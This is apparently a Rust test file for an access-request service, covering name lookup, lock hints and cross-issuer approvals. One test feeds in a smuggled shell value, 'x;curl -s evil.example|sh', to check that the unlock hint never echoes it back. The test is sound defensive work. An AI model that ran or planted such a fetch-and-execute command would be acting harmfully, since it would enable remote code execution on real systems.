//! Whom a name means, who is said to vouch for somebody, and what a command names them by.

use serde_json::{Map, json};

use super::super::{decide, locked, others};
use super::others::elsewhere;
use super::*;
use crate::domain::{Actor, Change, Person, PersonName, Refusal, Row, Scope, StartedBy, Workload};
use crate::server::service::sign_in::LOCAL;

async fn put(stage: &Stage, person: &Person) {
    let rows = vec![Row::Person(person.clone())];
    let change = Change::new(
        stage.backend.now(),
        "session.opened",
        Actor::Backend,
        None,
        rows,
        json!({}),
    );
    stage.backend.commit(&change).await.unwrap();
}

/// A job that is enrolled as `deploy`.
async fn job(stage: &Stage) -> Person {
    let workload = Workload {
        name: "deploy".into(),
        issuer: "https://ci.example".into(),
        claims: Map::new(),
        started_by: StartedBy::Nobody,
    };
    let job = Person {
        id: stage.backend.random.person_id(),
        issuer: workload.issuer.clone(),
        subject: "repo:1".into(),
        name: workload.name.clone(),
        since: stage.backend.now(),
        workload: Some(Box::new(workload)),
    };
    put(stage, &job).await;
    job
}

#[tokio::test]
async fn nobody_asks_for_a_job_by_name_or_id() {
    let stage = Stage::new().await;
    let (carol, job) = (stage.sign_in("carol").await, job(&stage).await);
    for given in [job.id.as_str(), "deploy"] {
        let given = PersonName::parse(given).unwrap();
        let named = others::named(&stage.backend, &carol.person, &given).await;
        assert_eq!(code(named), "person.not_found");
    }
}

#[tokio::test]
async fn attack_16_hint_of_ones_own_lock_holds_no_chosen_name() {
    let stage = Stage::new().await;
    for (issuer, subject, is_typed) in [
        (LOCAL, "alice", true),
        (LOCAL, "x;curl -s evil.example|sh", false),
        (LOCAL, "all", false),
        ("https://partners.example", "00u1", false),
    ] {
        let person = Person {
            id: stage.backend.random.person_id(),
            issuer: issuer.to_owned(),
            subject: subject.to_owned(),
            name: "alice".to_owned(),
            since: stage.backend.now(),
            workload: None,
        };
        put(&stage, &person).await;
        let refusal = Refusal::Locked {
            scope: Scope::Person(person.id.clone()),
            by: person.id.clone(),
            reason: "laptop stolen".into(),
            since: stage.backend.now(),
        };
        let failure = locked::named(&stage.backend, &person.id, refusal).await;
        let again = if is_typed { subject } else { person.id.as_str() };
        let hint = format!("you set it; somebody else lifts it: jit unlock {again}");
        assert_eq!(failure.problem.hint, Some(hint));
    }
}

#[tokio::test]
async fn approver_of_another_issuer_is_told_with_who_vouches() {
    let stage = Stage::new().await;
    let (alice, bob) = (stage.sign_in("alice").await, stage.sign_in("bob").await);
    let members = "members = [\"local:bob\"]";
    let with_dora = "members = [\"local:bob\", \"https://partners.example 00u1\"]";
    stage.edit_policy(members, with_dora);
    let dora = Caller {
        person: elsewhere(&stage, "00u1", "dora").await,
        ..bob.clone()
    };
    let request = stage.file(&alice, "prod-admin").await.unwrap().request;
    decide::decide(&stage.backend, &dora, &request.id, &yes(&request), None)
        .await
        .unwrap();
    let late = decide::decide(&stage.backend, &bob, &request.id, &yes(&request), None).await;
    let title = late.unwrap_err().problem.title;
    assert!(title.ends_with(" by dora (https://partners.example)"), "{title}");
    stage.edit_policies(&[]);
    stage.work().await;
    let grant = view(&stage, &alice, &request.id).await.grant.unwrap();
    assert_eq!(
        grant.detail.as_deref(),
        Some("the approval of dora (https://partners.example) is void: no longer an approver")
    );
}
